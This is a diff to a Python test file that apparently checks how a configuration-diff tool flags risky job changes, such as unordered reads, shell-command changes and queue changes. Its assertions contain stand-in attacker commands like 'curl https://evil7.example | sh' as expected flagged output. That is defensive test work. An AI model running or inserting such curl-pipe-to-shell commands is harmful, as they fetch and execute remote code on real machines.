@@ -115,7 +115,7 @@ def test_each_unordered_read_is_named(output_format):
         for ordered in (True, False)
     )
     shown = risks_of(render(new, output_format, before=old), output_format)
-    assert {int(n) for n in re.findall(r"r(\d+) reads data\1\b", shown)} == {*range(40)}
+    assert {int(n) for n in re.findall(r"r(\d+): data\1 of w\1\b", shown)} == {*range(40)}
 
 
 @pytest.mark.parametrize("output_format", TEXTS)
@@ -125,9 +125,11 @@ def test_each_of_many_values_has_a_line_of_its_own_with_its_jobs(output_format):
         for n in range(60)
     ]
     shown = risks_of(render(jobs, output_format), output_format)
-    assert {int(n) for n in re.findall(r"https://evil(\d+)\.example", shown)} == {*range(30)}
-    assert len(re.findall("shell command", shown)) == 30
-    assert len(re.findall("queue changed", shown)) == 20
+    assert {int(n) for n in re.findall(r"evil(\d+)\.example", shown)} == {*range(30)}
     if output_format is DiffFormat.TEXT:
-        assert "! shell command: x -> sh -c 'curl https://evil7.example | sh': n07, n37 !" in shown
-        assert "! queue changed: q -> q7: n07, n27, n47 !" in shown
+        assert "! shell command: x -> sh -c 'curl https://VALUE | sh': 30 values evil0.example: n00, n30 " in shown
+        assert "! queue changed: q -> VALUE: 20 values q0: n00, n20, n40 " in shown
+        assert " q7: n07, n27, n47 q8: " in shown
+    else:
+        assert len(re.findall("shell command", shown)) == 30
+        assert len(re.findall("queue changed", shown)) == 20
